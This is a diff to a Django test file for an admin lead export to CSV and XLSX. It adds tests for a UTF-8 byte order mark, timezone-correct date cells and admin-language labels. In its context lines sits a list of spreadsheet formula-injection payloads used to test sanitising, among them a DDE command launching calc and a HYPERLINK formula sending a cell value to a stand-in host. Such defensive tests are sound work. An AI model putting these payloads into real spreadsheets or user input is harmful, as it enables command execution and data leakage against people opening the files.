@@ -1,5 +1,6 @@
 """Lead export: CSV (streamed) and XLSX, selected or filtered, only with the export permission."""
 
+import codecs
 import csv
 import io
 import logging
@@ -13,6 +14,7 @@ from import_export.formats.base_formats import CSV
 
 from conversations.models import Contact
 from conversations.resources import ContactResource
+from core.spreadsheets import UTF8_BOM
 from tests.factories import ContactFactory, UserFactory
 
 CHANGELIST = reverse("admin:conversations_contact_changelist")
@@ -30,6 +32,7 @@ HEADERS = [
     "Last message",
     "Language",
     "Personal data consent",
+    "Interested in",
 ]
 #: Names a Telegram user can pick that spreadsheets would run (no tab or CR: XML changes those).
 FORMULAS = ['==HYPERLINK("//e.tk/"&D3)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1"]
@@ -49,7 +52,7 @@ def xlsx_sheet(response):
 
 
 def csv_rows(response):
-    content = b"".join(response.streaming_content).decode()
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.reader(io.StringIO(content)))
 
 
@@ -95,7 +98,16 @@ def test_streamed_csv_matches_import_export_output(admin_client, leads):
 
     response = admin_client.post(EXPORT, export_form("0"))
 
-    assert b"".join(response.streaming_content).decode() == expected
+    assert b"".join(response.streaming_content).decode() == UTF8_BOM + expected
+
+
+def test_csv_starts_with_the_byte_order_mark_excel_needs_for_utf8(admin_client, db):
+    ContactFactory(first_name="Анна", last_name="Каренина")
+
+    content = b"".join(admin_client.post(EXPORT, export_form("0")).streaming_content)
+
+    assert content.startswith(codecs.BOM_UTF8)
+    assert "Анна Каренина" in content.decode("utf-8-sig")
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -144,6 +156,25 @@ def test_xlsx_keeps_the_id_a_number_and_times_dates(admin_client, leads):
 
     assert (row[0].value, row[0].data_type) == (anna.pk, "n")
     assert (row[10].value, row[10].data_type) == (datetime(2025, 3, 1, 12, 30), "d")
+
+
+def test_xlsx_times_are_date_cells_in_the_project_zone_to_the_second(admin_client, db):
+    ContactFactory(consent_at=datetime(2025, 3, 1, 9, 30, 15, 654321, tzinfo=UTC))
+
+    consent = xlsx_sheet(admin_client.post(EXPORT, export_form("1")))["K2"]
+
+    assert (consent.value, consent.data_type) == (datetime(2025, 3, 1, 12, 30, 15), "d")
+
+
+def test_the_export_form_speaks_only_the_admin_language(admin_client, db, settings):
+    settings.LANGUAGE_CODE = "ru"
+
+    page = admin_client.get(EXPORT).content.decode()
+
+    assert "Выбрать все" in page
+    assert "Select all" not in page
+    assert '<label for="id_contactresource_id">ID</label>' in page
+    assert '<label for="id_contactresource_phone">Телефон</label>' in page
 
 
 def test_csv_export_respects_the_changelist_filter(admin_client, leads):
